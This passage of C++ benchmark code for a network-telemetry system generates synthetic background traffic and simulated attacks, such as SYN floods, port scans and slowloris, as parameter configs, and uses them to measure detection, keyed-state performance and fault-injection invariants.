  // Workload: background plus a flood whose *per-switch* share stays below
  // threshold for fleets of 2+ switches.
  const std::uint32_t victim = util::ipv4(120, 3, 0, 9);
  trace::BackgroundConfig bg;
  bg.duration_sec = 15.0;
  bg.flows_per_sec = 600.0 * opts.scale;
  trace::TraceBuilder builder(opts.seed);
  builder.background(bg);
  trace::SynFloodConfig flood;
  flood.victim = victim;
  flood.start_sec = 2.0;
  flood.duration_sec = 12.0;
  flood.pps = 900;  // ~2700 SYN/window network-wide
  builder.add(flood);
  const auto trace = builder.build();

  queries::Thresholds th;
  th.newly_opened = 1500;  // below the network-wide sum, above any 1/2+ share
  std::vector<query::Query> qs;
  qs.push_back(queries::make_newly_opened_tcp(th, util::seconds(3)));

  planner::PlannerConfig cfg;
  cfg.mode = planner::PlanMode::kMaxDP;
  const auto plan = planner::Planner(cfg).plan(qs, trace);

  std::printf("Network-wide scale-out: flood of ~2700 SYN/window at %s, threshold %llu\n",
              util::ipv4_to_string(victim).c_str(),
              static_cast<unsigned long long>(th.newly_opened));
  std::printf("(%zu packets; per-switch share shrinks as the fleet grows)\n\n", trace.size());

  std::vector<std::vector<std::string>> rows;
  for (const std::size_t switches : {1u, 2u, 4u, 8u}) {
    runtime::Fleet fleet(plan, switches);
    std::uint64_t tuples = 0;
    bool detected = false;
    for (const auto& ws : fleet.run_trace(trace)) {
      tuples += ws.tuples_to_sp;
      for (const auto& r : ws.results) {
        for (const auto& t : r.outputs) detected = detected || t.at(0).as_uint() == victim;
      }
    }
    std::uint64_t busiest = 0;
    for (std::size_t i = 0; i < fleet.size(); ++i) {
      busiest = std::max(busiest, fleet.data_plane(i).stats().packets_processed);
    }
    char share[16];
    std::snprintf(share, sizeof share, "%.0f%%",
                  100.0 * static_cast<double>(busiest) / static_cast<double>(trace.size()));
    rows.push_back({std::to_string(switches), bench::fmt_count(tuples), share,
                    detected ? "yes" : "NO"});
  }
  bench::print_table({"switches", "tuples to SP", "busiest switch share", "victim detected"},
                     rows);
  std::printf("\nPer-switch counts alone never cross the threshold beyond 2 switches;\n");
  std::printf("the shared stream processor merges register polls and still detects.\n");

  // -- Part 2: worker threads vs throughput on a fixed 8-switch fleet ----
  constexpr std::size_t kSwitches = 8;
  std::printf("\nParallel fleet execution: %zu switches, varying worker threads\n", kSwitches);
  std::printf("(hardware reports %u cores; speedup is capped by that)\n\n",
              std::thread::hardware_concurrency());

  runtime::Fleet serial(plan, kSwitches, 0);
  const auto t0 = std::chrono::steady_clock::now();
  const auto reference = serial.run_trace(trace);
  const auto t1 = std::chrono::steady_clock::now();
  const double serial_sec = std::chrono::duration<double>(t1 - t0).count();

  std::vector<std::vector<std::string>> trows;
  auto row = [&](const std::string& label, double sec, bool identical) {
    const double pps = static_cast<double>(trace.size()) / sec;
    char pps_s[32], speedup[16];
    std::snprintf(pps_s, sizeof pps_s, "%.2fM", pps / 1e6);
    std::snprintf(speedup, sizeof speedup, "%.2fx", serial_sec / sec);
    trows.push_back({label, pps_s, speedup, identical ? "yes" : "NO"});
  };
  row("serial (0)", serial_sec, true);
  for (const std::size_t threads : {1u, 2u, 4u, 8u}) {
    runtime::Fleet fleet(plan, kSwitches, threads);
    const auto b = std::chrono::steady_clock::now();
    const auto windows = fleet.run_trace(trace);
    const auto e = std::chrono::steady_clock::now();
    row(std::to_string(threads), std::chrono::duration<double>(e - b).count(),
        identical_windows(reference, windows));
  }
  bench::print_table({"worker threads", "packets/sec", "speedup vs serial", "bit-identical"},
                     trows);
  std::printf("\nEvery thread count merges shard buffers in switch order at the window\n");
  std::printf("barrier, so results match the serial run bit-for-bit.\n");
  return 0;
}
