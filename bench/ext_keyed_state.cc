// Extension benchmark: flat keyed-state engine vs std::unordered_map
// (DESIGN.md "Keyed-state engines").
//
// Two measurements:
//
//  1. Microbench — reduce-style aggregation (try_emplace + increment, then
//     a full drain) across key cardinalities 1K..1M, windowed: the flat
//     table clear()s between windows and reuses capacity, the
//     unordered_map baseline is rebuilt per window exactly like the old
//     executor code (end_window moved the map out, so every window paid
//     node allocations and bucket growth again). Reported as ns/update,
//     best of kReps.
//
//  2. End-to-end — a MaxDP fleet replay (the flat tables sit in every SP
//     keyed path), serial per-packet reference vs batched threaded run.
//     Windows must be BIT-IDENTICAL: the flat tables drain in insertion
//     order, which the deterministic barrier merge makes invariant across
//     batch/thread configs.
//
// Results land in BENCH_keyed_state.json. Exit status gates CI:
//   1 — end-to-end windows not bit-identical (always fatal),
//   2 — full mode only: flat speedup < 1.5x at any cardinality >= 100K
//       (--smoke skips the perf gate: sanitizer builds skew timing).
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <random>
#include <string>
#include <thread>
#include <unordered_map>
#include <vector>

#include "common.h"
#include "runtime/fleet.h"
#include "runtime/stream_processor.h"
#include "util/flat_table.h"

using namespace sonata;

namespace {

bool identical_windows(const std::vector<runtime::WindowStats>& a,
                       const std::vector<runtime::WindowStats>& b) {
  if (a.size() != b.size()) return false;
  for (std::size_t w = 0; w < a.size(); ++w) {
    if (a[w].packets != b[w].packets || a[w].tuples_to_sp != b[w].tuples_to_sp ||
        a[w].raw_mirror_packets != b[w].raw_mirror_packets ||
        a[w].overflow_records != b[w].overflow_records ||
        a[w].results.size() != b[w].results.size()) {
      return false;
    }
    for (std::size_t r = 0; r < a[w].results.size(); ++r) {
      if (a[w].results[r].qid != b[w].results[r].qid ||
          !(a[w].results[r].outputs == b[w].results[r].outputs)) {
        return false;
      }
    }
    if (!(a[w].winners == b[w].winners)) return false;
  }
  return true;
}

struct MicroResult {
  std::size_t keys = 0;
  std::size_t updates = 0;  // per window
  double flat_ns = 0.0;
  double umap_ns = 0.0;
  [[nodiscard]] double speedup() const { return umap_ns / flat_ns; }
};

// 5-tuple-shaped keys: two 64-bit values, inline ValueVec storage.
std::vector<query::Tuple> make_keys(std::size_t n, std::uint64_t seed) {
  std::mt19937_64 rng(seed);
  std::vector<query::Tuple> keys;
  keys.reserve(n);
  for (std::size_t i = 0; i < n; ++i) {
    query::Tuple t;
    t.values.emplace_back(rng());
    t.values.emplace_back(static_cast<std::uint64_t>(i));
    keys.push_back(std::move(t));
  }
  return keys;
}

MicroResult run_micro(std::size_t cardinality, std::size_t updates_per_window,
                      int windows, int reps, std::uint64_t seed) {
  const std::vector<query::Tuple> keys = make_keys(cardinality, seed);
  std::mt19937_64 rng(seed ^ 0xBADC0FFEE0DDF00DULL);
  std::vector<std::uint32_t> order(updates_per_window);
  for (auto& idx : order) idx = static_cast<std::uint32_t>(rng() % cardinality);

  volatile std::uint64_t sink = 0;  // keep drains observable
  MicroResult r{cardinality, updates_per_window};
  r.flat_ns = 1e30;
  r.umap_ns = 1e30;

  for (int rep = 0; rep < reps; ++rep) {
    {
      // Flat engine: one table for the whole run; clear() between windows
      // keeps capacity, so windows past the first never allocate.
      util::FlatMap<std::uint64_t> agg;
      const auto t0 = std::chrono::steady_clock::now();
      for (int w = 0; w < windows; ++w) {
        for (const std::uint32_t idx : order) {
          const query::Tuple& k = keys[idx];
          const std::uint64_t h = k.hash();
          auto [slot, inserted] = agg.try_emplace(k, h, 1);
          if (!inserted) ++*slot;
        }
        std::uint64_t total = 0;
        for (const auto& e : agg.entries()) total += e.value;
        sink += total;
        agg.clear();
      }
      const auto t1 = std::chrono::steady_clock::now();
      r.flat_ns = std::min(
          r.flat_ns, std::chrono::duration<double, std::nano>(t1 - t0).count() /
                         (static_cast<double>(windows) * static_cast<double>(updates_per_window)));
    }
    {
      // Baseline: what the executors did before — a node-based map whose
      // storage dies with the window (end_window moved it out), so every
      // window re-pays node allocations and bucket growth.
      const auto t0 = std::chrono::steady_clock::now();
      for (int w = 0; w < windows; ++w) {
        std::unordered_map<query::Tuple, std::uint64_t, query::TupleHasher> agg;
        for (const std::uint32_t idx : order) {
          auto [it, inserted] = agg.try_emplace(keys[idx], 1);
          if (!inserted) ++it->second;
        }
        std::uint64_t total = 0;
        for (const auto& [k, v] : agg) total += v;
        sink += total;
      }
      const auto t1 = std::chrono::steady_clock::now();
      r.umap_ns = std::min(
          r.umap_ns, std::chrono::duration<double, std::nano>(t1 - t0).count() /
                         (static_cast<double>(windows) * static_cast<double>(updates_per_window)));
    }
  }
  (void)sink;
  return r;
}

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  bool smoke = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--smoke") == 0) smoke = true;
  }

  // --- Microbench across cardinalities -----------------------------------
  struct Shape {
    std::size_t keys;
    std::size_t updates;
  };
  std::vector<Shape> shapes;
  if (smoke) {
    shapes = {{1000, 4000}, {10000, 20000}};
  } else {
    shapes = {{1000, 8000}, {10000, 40000}, {100000, 400000}, {1000000, 2000000}};
  }
  const int windows = smoke ? 2 : 3;
  const int reps = smoke ? 1 : 3;

  std::printf("Keyed-state microbench: reduce-style updates, %d windows, best of %d\n\n",
              windows, reps);
  (void)run_micro(1000, 4000, 1, 1, opts.seed);  // discarded warm-up (code + cpu)
  std::vector<MicroResult> micro;
  for (const Shape& s : shapes) {
    micro.push_back(run_micro(s.keys, s.updates, windows, reps, opts.seed));
  }
  {
    std::vector<std::vector<std::string>> rows;
    for (const MicroResult& m : micro) {
      char flat_s[32], umap_s[32], sp_s[32];
      std::snprintf(flat_s, sizeof flat_s, "%.1f", m.flat_ns);
      std::snprintf(umap_s, sizeof umap_s, "%.1f", m.umap_ns);
      std::snprintf(sp_s, sizeof sp_s, "%.2fx", m.speedup());
      rows.push_back({bench::fmt_count(m.keys), bench::fmt_count(m.updates), flat_s, umap_s,
                      sp_s});
    }
    bench::print_table({"keys", "updates/window", "flat ns/update", "umap ns/update", "speedup"},
                       rows);
  }

  // --- End-to-end: bit-identity + pps ------------------------------------
  trace::BackgroundConfig bg;
  bg.duration_sec = smoke ? 3.0 : 12.0;
  bg.flows_per_sec = 600.0 * opts.scale;
  const auto trace = trace::TraceBuilder(opts.seed).background(bg).build();

  queries::Thresholds th;
  std::vector<query::Query> qs;
  qs.push_back(queries::make_newly_opened_tcp(th, util::seconds(3)));

  planner::PlannerConfig cfg;
  cfg.mode = planner::PlanMode::kMaxDP;
  cfg.window = util::seconds(3);
  const auto plan = planner::Planner(cfg).plan(qs, trace);

  constexpr std::size_t kSwitches = 4;
  runtime::Fleet reference_fleet(plan, kSwitches, 0, 1);
  const auto reference = reference_fleet.run_trace(trace);

  runtime::Fleet fleet(plan, kSwitches, 2, 256);
  const auto t0 = std::chrono::steady_clock::now();
  const auto windows_out = fleet.run_trace(trace);
  const auto t1 = std::chrono::steady_clock::now();
  const double seconds = std::chrono::duration<double>(t1 - t0).count();
  const double pps = static_cast<double>(trace.size()) / seconds;
  const bool identical = identical_windows(reference, windows_out);

  std::printf("\nEnd-to-end (%zu-switch fleet, %zu packets): %.2fM pps, bit-identical: %s\n",
              kSwitches, trace.size(), pps / 1e6, identical ? "yes" : "NO");

  // --- Gates --------------------------------------------------------------
  bool perf_ok = true;
  if (!smoke) {
    for (const MicroResult& m : micro) {
      if (m.keys >= 100000 && m.speedup() < 1.5) perf_ok = false;
    }
  }

  std::ofstream json("BENCH_keyed_state.json");
  json << "{\n  \"bench\": \"keyed_state\",\n";
  json << "  \"smoke\": " << (smoke ? "true" : "false") << ",\n";
  json << "  \"windows\": " << windows << ",\n  \"reps\": " << reps << ",\n";
  json << "  \"hardware\": " << bench::hardware_json() << ",\n";
  json << "  \"micro\": [\n";
  for (std::size_t i = 0; i < micro.size(); ++i) {
    const MicroResult& m = micro[i];
    char buf[256];
    std::snprintf(buf, sizeof buf,
                  "    {\"keys\": %zu, \"updates_per_window\": %zu, "
                  "\"flat_ns_per_update\": %.2f, \"umap_ns_per_update\": %.2f, "
                  "\"speedup\": %.3f}%s\n",
                  m.keys, m.updates, m.flat_ns, m.umap_ns, m.speedup(),
                  i + 1 == micro.size() ? "" : ",");
    json << buf;
  }
  json << "  ],\n";
  {
    char buf[256];
    std::snprintf(buf, sizeof buf,
                  "  \"e2e\": {\"switches\": %zu, \"packets\": %zu, \"pps\": %.0f, "
                  "\"seconds\": %.4f, \"identical\": %s},\n",
                  kSwitches, trace.size(), pps, seconds, identical ? "true" : "false");
    json << buf;
  }
  json << "  \"gate\": {\"identical\": " << (identical ? "true" : "false")
       << ", \"perf_ok\": " << (perf_ok ? "true" : "false") << "}\n}\n";
  std::printf("Wrote BENCH_keyed_state.json\n");

  if (!identical) {
    std::fprintf(stderr, "GATE FAILURE: windows not bit-identical to serial reference\n");
    return 1;
  }
  if (!perf_ok) {
    std::fprintf(stderr, "GATE FAILURE: flat speedup < 1.5x at >= 100K keys\n");
    return 2;
  }
  return 0;
}
