// Shared benchmark support: the evaluation workload (the CAIDA-stand-in,
// scaled down from the paper's 20 Mpps border link — see DESIGN.md), plan
// helpers and table formatting.
//
// Every figure/table binary accepts:
//   --scale=<float>   background-traffic multiplier (default 1.0)
//   --seed=<u64>      workload seed (default 2018)
// so results are reproducible and machines of any size can run them.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "planner/planner.h"
#include "queries/catalog.h"
#include "runtime/runtime.h"
#include "trace/trace.h"

namespace sonata::bench {

struct Options {
  double scale = 1.0;
  std::uint64_t seed = 2018;
};

// Parse --scale/--seed; ignores unknown flags (so gbench flags pass through).
[[nodiscard]] Options parse_options(int argc, char** argv);

struct Workload {
  std::vector<net::Packet> trace;
  queries::Thresholds thresholds;
  util::Nanos window = util::seconds(3);

  // Ground-truth attack endpoints (reported in benchmark output).
  std::uint32_t syn_victim = 0;
  std::uint32_t ssh_victim = 0;
  std::uint32_t spreader = 0;
  std::uint32_t scanner = 0;
  std::uint32_t ddos_victim = 0;
  std::uint32_t incomplete_victim = 0;
  std::uint32_t slowloris_victim = 0;
};

// The Figure 7/8 workload: 24 s of border-link background plus the seven
// layer-3/4 attacks, steady from t=2 s to t=22 s.
[[nodiscard]] Workload make_eval_workload(const Options& opts);

// The Figure 9 workload: background plus the telnet/zorro attack starting
// at t=10 s, shell commands at t=20 s (paper's timeline).
struct ZorroWorkload {
  std::vector<net::Packet> trace;
  queries::Thresholds thresholds;
  trace::ZorroConfig attack;
  util::Nanos window = util::seconds(3);
};
[[nodiscard]] ZorroWorkload make_zorro_workload(const Options& opts);

// Run a plan's runtime over a trace; returns total tuples sent to the SP.
struct RunMeasurement {
  std::uint64_t tuples_to_sp = 0;
  std::uint64_t packets = 0;
  std::uint64_t overflow_records = 0;
  std::size_t windows = 0;
};
[[nodiscard]] RunMeasurement measure_runtime(const planner::Plan& plan,
                                             std::span<const net::Packet> trace);

// Markdown-ish table printing.
void print_table(const std::vector<std::string>& header,
                 const std::vector<std::vector<std::string>>& rows);

[[nodiscard]] std::string fmt_count(std::uint64_t v);     // 1234567 -> "1.23e6"
[[nodiscard]] std::string fmt_bits(std::uint64_t bits);   // -> "1900 Kb"

// JSON object describing the machine a benchmark actually ran on:
//   {"available_cores": N, "hardware_threads": M, "simd": "avx2",
//    "pinned_workers": K}
// available_cores honours the process affinity mask (a container pinned to
// one core reports 1), hardware_threads is the raw OS count; every
// BENCH_*.json embeds this as its "hardware" field so throughput numbers
// carry the topology they were measured on.
[[nodiscard]] std::string hardware_json(std::size_t pinned_workers = 0);

// All five plan modes in Table 4 order.
[[nodiscard]] const std::vector<planner::PlanMode>& all_modes();

}  // namespace sonata::bench
