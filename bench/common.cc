#include "common.h"

#include <algorithm>
#include <cinttypes>
#include <cstdio>
#include <cstring>
#include <thread>

#include "util/cpu.h"
#include "util/ip.h"

namespace sonata::bench {

using util::ipv4;

Options parse_options(int argc, char** argv) {
  Options opts;
  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    if (std::strncmp(arg, "--scale=", 8) == 0) {
      opts.scale = std::max(0.05, std::atof(arg + 8));
    } else if (std::strncmp(arg, "--seed=", 7) == 0) {
      opts.seed = std::strtoull(arg + 7, nullptr, 10);
    }
  }
  return opts;
}

Workload make_eval_workload(const Options& opts) {
  Workload w;
  w.syn_victim = ipv4(99, 1, 0, 25);
  w.ssh_victim = ipv4(77, 2, 0, 10);
  w.spreader = ipv4(55, 3, 0, 7);
  w.scanner = ipv4(44, 4, 0, 3);
  w.ddos_victim = ipv4(66, 5, 0, 9);
  w.incomplete_victim = ipv4(88, 6, 0, 2);
  w.slowloris_victim = ipv4(33, 7, 0, 4);

  trace::BackgroundConfig bg;
  bg.duration_sec = 24.0;
  bg.flows_per_sec = 1200.0 * opts.scale;
  bg.client_pool = 15000;
  bg.server_pool = 3000;

  trace::TraceBuilder builder(opts.seed);
  builder.background(bg);

  // Attacks are steady from t=2 s to t=22 s so every window after warm-up
  // contains them; their rates do NOT scale (detectability is constant).
  trace::SynFloodConfig flood;
  flood.victim = w.syn_victim;
  flood.start_sec = 2.0;
  flood.duration_sec = 20.0;
  flood.pps = 3000;
  builder.add(flood);

  // Two secondary SYN-heavy hosts in other /8s, so refinement has several
  // "needles" to find (the paper's trace had 77 query-1 positives).
  trace::SynFloodConfig flood2 = flood;
  flood2.victim = ipv4(142, 8, 0, 6);
  flood2.pps = 1400;
  builder.add(flood2);
  trace::SynFloodConfig flood3 = flood;
  flood3.victim = ipv4(27, 9, 0, 8);
  flood3.pps = 1000;
  builder.add(flood3);

  trace::SshBruteForceConfig ssh;
  ssh.victim = w.ssh_victim;
  ssh.start_sec = 2.0;
  ssh.duration_sec = 20.0;
  ssh.attempts_per_sec = 150;
  ssh.source_count = 2000;
  builder.add(ssh);

  trace::SuperspreaderConfig spread;
  spread.spreader = w.spreader;
  spread.start_sec = 2.0;
  spread.duration_sec = 20.0;
  spread.distinct_destinations = 6000;
  builder.add(spread);

  trace::PortScanConfig scan;
  scan.scanner = w.scanner;
  scan.target = ipv4(201, 10, 0, 1);
  scan.start_sec = 2.0;
  scan.duration_sec = 20.0;
  scan.first_port = 1;
  scan.last_port = 4096;
  builder.add(scan);

  trace::DdosConfig ddos;
  ddos.victim = w.ddos_victim;
  ddos.start_sec = 2.0;
  ddos.duration_sec = 20.0;
  ddos.distinct_sources = 8000;
  ddos.pps = 4000;
  builder.add(ddos);

  trace::IncompleteFlowsConfig inc;
  inc.attacker = ipv4(202, 11, 0, 1);
  inc.victim = w.incomplete_victim;
  inc.start_sec = 2.0;
  inc.duration_sec = 20.0;
  inc.conns_per_sec = 600;
  builder.add(inc);

  // Real victims answer: give the SYN-flood victim a trickle of handshake
  // responses and the incomplete-flows victim a few completed connections,
  // so the inner-join queries (SYN flood, incomplete flows) can see them —
  // a host with literally zero response traffic is invisible to the
  // NetQRE-style three-way join.
  trace::IncompleteFlowsConfig flood_responses;
  flood_responses.attacker = ipv4(204, 13, 0, 1);
  flood_responses.victim = w.syn_victim;
  flood_responses.start_sec = 2.0;
  flood_responses.duration_sec = 20.0;
  flood_responses.conns_per_sec = 40;
  builder.add(flood_responses);
  {
    std::vector<net::Packet> completed;
    for (int i = 0; i < 120; ++i) {
      const auto t0 = util::seconds(1.0 + 0.18 * i);
      const auto sport = static_cast<std::uint16_t>(21000 + i);
      const auto client = ipv4(10, 4, 0, static_cast<std::uint32_t>(i % 200 + 1));
      completed.push_back(
          net::Packet::tcp(t0, client, w.incomplete_victim, sport, 80, net::tcp_flags::kSyn, 40));
      completed.push_back(net::Packet::tcp(t0 + util::kNanosPerMilli * 35, client,
                                           w.incomplete_victim, sport, 80,
                                           net::tcp_flags::kFin | net::tcp_flags::kAck, 40));
    }
    builder.add_packets(std::move(completed));
  }

  trace::SlowlorisConfig slow;
  slow.victim = w.slowloris_victim;
  slow.start_sec = 2.0;
  slow.duration_sec = 20.0;
  slow.attacker_count = 6;
  slow.conns_per_attacker = 900;
  builder.add(slow);

  w.trace = builder.build();

  w.thresholds.newly_opened = 2000;
  w.thresholds.ssh_brute = 100;
  w.thresholds.superspreader = 300;
  w.thresholds.port_scan = 150;
  w.thresholds.ddos = 1000;
  w.thresholds.syn_flood = 2000;
  w.thresholds.incomplete_flows = 500;
  w.thresholds.slowloris_bytes = 30000;
  w.thresholds.slowloris_ratio = 1500;
  return w;
}

ZorroWorkload make_zorro_workload(const Options& opts) {
  ZorroWorkload w;

  trace::BackgroundConfig bg;
  bg.duration_sec = 27.0;
  bg.flows_per_sec = 800.0 * opts.scale;
  bg.client_pool = 10000;
  bg.server_pool = 2000;
  bg.telnet_fraction = 0.12;  // IoT-heavy link: plenty of benign telnet

  trace::TraceBuilder builder(opts.seed);
  builder.background(bg);

  w.attack.attacker = ipv4(203, 9, 9, 9);
  w.attack.victim = ipv4(99, 7, 0, 25);  // the paper's case-study victim
  w.attack.start_sec = 10.0;             // attack begins at t = 10 s
  w.attack.probe_duration_sec = 12.0;    // telnet probing continues
  w.attack.probe_pps = 200;
  w.attack.shell_at_sec = 20.0;          // shell access gained at t = 20 s
  w.attack.shell_packets = 5;
  builder.add(w.attack);
  w.trace = builder.build();

  w.thresholds.zorro_probes = 100;  // ~600 same-size probes per window
  w.thresholds.zorro_keyword = 3;   // 5 keyword packets in one window
  return w;
}

RunMeasurement measure_runtime(const planner::Plan& plan,
                               std::span<const net::Packet> trace) {
  runtime::Runtime rt(plan);
  RunMeasurement m;
  for (const auto& ws : rt.run_trace(trace)) {
    m.tuples_to_sp += ws.tuples_to_sp;
    m.packets += ws.packets;
    m.overflow_records += ws.overflow_records;
    ++m.windows;
  }
  return m;
}

void print_table(const std::vector<std::string>& header,
                 const std::vector<std::vector<std::string>>& rows) {
  std::vector<std::size_t> widths(header.size());
  for (std::size_t c = 0; c < header.size(); ++c) widths[c] = header[c].size();
  for (const auto& row : rows) {
    for (std::size_t c = 0; c < row.size() && c < widths.size(); ++c) {
      widths[c] = std::max(widths[c], row[c].size());
    }
  }
  auto print_row = [&](const std::vector<std::string>& row) {
    std::fputs("|", stdout);
    for (std::size_t c = 0; c < widths.size(); ++c) {
      const std::string& cell = c < row.size() ? row[c] : std::string{};
      std::printf(" %-*s |", static_cast<int>(widths[c]), cell.c_str());
    }
    std::fputs("\n", stdout);
  };
  print_row(header);
  std::fputs("|", stdout);
  for (std::size_t c = 0; c < widths.size(); ++c) {
    for (std::size_t i = 0; i < widths[c] + 2; ++i) std::fputc('-', stdout);
    std::fputc('|', stdout);
  }
  std::fputs("\n", stdout);
  for (const auto& row : rows) print_row(row);
}

std::string fmt_count(std::uint64_t v) {
  char buf[32];
  if (v < 100000) {
    std::snprintf(buf, sizeof buf, "%" PRIu64, v);
  } else {
    std::snprintf(buf, sizeof buf, "%.2e", static_cast<double>(v));
  }
  return buf;
}

std::string fmt_bits(std::uint64_t bits) {
  char buf[32];
  if (bits >= 8ULL * 1024 * 1024) {
    std::snprintf(buf, sizeof buf, "%.1f Mb", static_cast<double>(bits) / (1024.0 * 1024.0));
  } else if (bits >= 1024) {
    std::snprintf(buf, sizeof buf, "%.1f Kb", static_cast<double>(bits) / 1024.0);
  } else {
    std::snprintf(buf, sizeof buf, "%" PRIu64 " b", bits);
  }
  return buf;
}

std::string hardware_json(std::size_t pinned_workers) {
  char buf[160];
  std::snprintf(buf, sizeof buf,
                "{\"available_cores\": %zu, \"hardware_threads\": %u, \"simd\": \"%s\", "
                "\"pinned_workers\": %zu}",
                util::available_cores(), std::thread::hardware_concurrency(),
                util::simd_level(), pinned_workers);
  return buf;
}

const std::vector<planner::PlanMode>& all_modes() {
  static const std::vector<planner::PlanMode> modes = {
      planner::PlanMode::kAllSP, planner::PlanMode::kFilterDP, planner::PlanMode::kMaxDP,
      planner::PlanMode::kFixRef, planner::PlanMode::kSonata};
  return modes;
}

}  // namespace sonata::bench
