// Extension benchmark + CI chaos gate: deterministic fault-injection soak
// (DESIGN.md "Fault model & degradation").
//
// Drives the parallel fleet and the single-switch runtime through seeded
// fault schedules and asserts the three chaos invariants:
//
//   1. no crash: the whole soak completes (CI runs it under ASan+UBSan, so
//      "completes" includes "no sanitizer finding");
//   2. fault-free windows are bit-identical to a never-faulted baseline —
//      injection is surgical, a window nothing touched is exactly the
//      window the clean run produced (and the recovery window after a
//      quarantined stall is clean again);
//   3. every injected fault is visible in the metrics snapshot: the summed
//      per-window WindowStats::faults deltas equal the sonata_fault_*
//      counters — nothing was injected or degraded silently.
//
// Phase 2 exercises the acted-on re-planning loop: a well-sized plan is
// installed under register_shrink pressure (collision-overflow storm), and
// the auto-replan path must fire, hot-swap a plan trained on live windows,
// and end the run with the storm gone.
//
// `--smoke` shrinks the trace for sanitizer CI jobs. Results land in
// BENCH_chaos.json; the fault counters land in chaos_metrics.json (CI
// uploads both as artifacts). Exits nonzero on any violation.
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#include "common.h"
#include "fault/fault.h"
#include "obs/metrics.h"
#include "queries/catalog.h"
#include "runtime/fleet.h"
#include "runtime/runtime.h"
#include "trace/trace.h"

using namespace sonata;

namespace {

bool identical_window(const runtime::WindowStats& a, const runtime::WindowStats& b) {
  if (a.packets != b.packets || a.tuples_to_sp != b.tuples_to_sp ||
      a.raw_mirror_packets != b.raw_mirror_packets ||
      a.overflow_records != b.overflow_records || a.results.size() != b.results.size()) {
    return false;
  }
  for (std::size_t r = 0; r < a.results.size(); ++r) {
    if (a.results[r].qid != b.results[r].qid ||
        !(a.results[r].outputs == b.results[r].outputs)) {
      return false;
    }
  }
  return a.winners == b.winners;
}

std::uint64_t counter_value(const obs::Snapshot& snap, std::string_view name) {
  for (const auto& c : snap.counters) {
    if (c.name == name) return c.value;
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  bool smoke = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--smoke") == 0) smoke = true;
  }

  const double duration_sec = smoke ? 12.0 : 24.0;
  trace::BackgroundConfig bg;
  bg.duration_sec = duration_sec;
  bg.flows_per_sec = 300.0 * opts.scale;
  const auto trace_pkts = trace::TraceBuilder(opts.seed).background(bg).build();

  const util::Nanos window = util::seconds(3);
  queries::Thresholds th;  // defaults: moderate report volume per window
  std::vector<query::Query> qs;
  qs.push_back(queries::make_newly_opened_tcp(th, window));
  qs.push_back(queries::make_ddos(th, window));

  planner::PlannerConfig cfg;
  cfg.mode = planner::PlanMode::kMaxDP;
  cfg.window = window;
  const auto plan = planner::Planner(cfg).plan(qs, trace_pkts);
  const auto slices = trace::split_windows(trace_pkts, window);

  std::printf("Chaos soak: %zu packets, %zu windows, fleet of 2 switches x 2 workers%s\n\n",
              trace_pkts.size(), slices.size(), smoke ? " (smoke)" : "");

  // The gate asserts counter == account equality, and obs counters only
  // record while enabled.
  obs::set_enabled(true);
  obs::Registry::global().reset_values();

  // Deterministic shard routing (alternating switches) so the baseline and
  // chaos runs shard the traffic identically.
  const auto run_fleet = [&](const fault::FaultSpec& faults) {
    runtime::Fleet fleet(plan, 2, 2, 64, faults);
    std::vector<runtime::WindowStats> out;
    for (const auto& slice : slices) {
      std::size_t k = 0;
      for (const auto& p : slice) fleet.ingest_at(k++ % 2, p);
      out.push_back(fleet.close_window());
    }
    return out;
  };

  const auto baseline = run_fleet(fault::FaultSpec{});

  // -- phase 1: fleet under wire faults + a one-window stall -------------
  fault::FaultSpec spec;
  spec.seed = opts.seed;
  spec.corrupt_rate = 0.01;
  spec.truncate_rate = 0.01;
  spec.drop_rate = 0.01;
  spec.dup_rate = 0.005;
  spec.reorder_rate = 0.005;
  spec.slow_ns = 10'000;  // visible in the account, costs only time
  spec.stall_switch = 1;
  spec.stall_from_window = 1;
  spec.stall_windows = 1;
  spec.watchdog_ms = 2000;  // generous: sanitizer builds drain slowly
  std::printf("fault spec: %s\n\n", spec.to_string().c_str());

  obs::Registry::global().reset_values();
  const auto chaos = run_fleet(spec);

  std::size_t clean = 0, faulted = 0, mismatched_clean = 0;
  fault::FaultAccount sum;
  for (std::size_t w = 0; w < chaos.size(); ++w) {
    const auto& cw = chaos[w];
    const auto& f = cw.faults;
    sum.corrupted += f.corrupted;
    sum.corrupted_delivered += f.corrupted_delivered;
    sum.truncated += f.truncated;
    sum.dropped += f.dropped;
    sum.duplicated += f.duplicated;
    sum.reordered += f.reordered;
    sum.decode_failures += f.decode_failures;
    sum.slowdowns += f.slowdowns;
    sum.watchdog_fires += f.watchdog_fires;
    sum.late_packets += f.late_packets;
    sum.shed_packets += f.shed_packets;
    const bool is_clean = f.output_affecting() == 0 && !cw.partial;
    if (is_clean) {
      ++clean;
      if (!identical_window(cw, baseline[w])) ++mismatched_clean;
    } else {
      ++faulted;
    }
    std::printf("  window %2zu: %s  mask=0x%llx  wire(c/t/d/dup/r)=%llu/%llu/%llu/%llu/%llu"
                "  late=%llu shed=%llu%s\n",
                w, is_clean ? "clean  " : "faulted",
                static_cast<unsigned long long>(cw.contribution_mask),
                static_cast<unsigned long long>(f.corrupted),
                static_cast<unsigned long long>(f.truncated),
                static_cast<unsigned long long>(f.dropped),
                static_cast<unsigned long long>(f.duplicated),
                static_cast<unsigned long long>(f.reordered),
                static_cast<unsigned long long>(f.late_packets),
                static_cast<unsigned long long>(f.shed_packets),
                cw.partial ? "  PARTIAL" : "");
  }

  // Invariant 3 while phase 1's counters are the only fault counters.
  const obs::Snapshot snap = obs::Registry::global().snapshot();
  const std::pair<const char*, std::uint64_t> expected[] = {
      {"sonata_fault_corrupted_total", sum.corrupted},
      {"sonata_fault_corrupted_delivered_total", sum.corrupted_delivered},
      {"sonata_fault_truncated_total", sum.truncated},
      {"sonata_fault_dropped_total", sum.dropped},
      {"sonata_fault_duplicated_total", sum.duplicated},
      {"sonata_fault_reordered_total", sum.reordered},
      {"sonata_fault_decode_failures_total", sum.decode_failures},
      {"sonata_fault_slowdowns_total", sum.slowdowns},
      {"sonata_fault_watchdog_fires_total", sum.watchdog_fires},
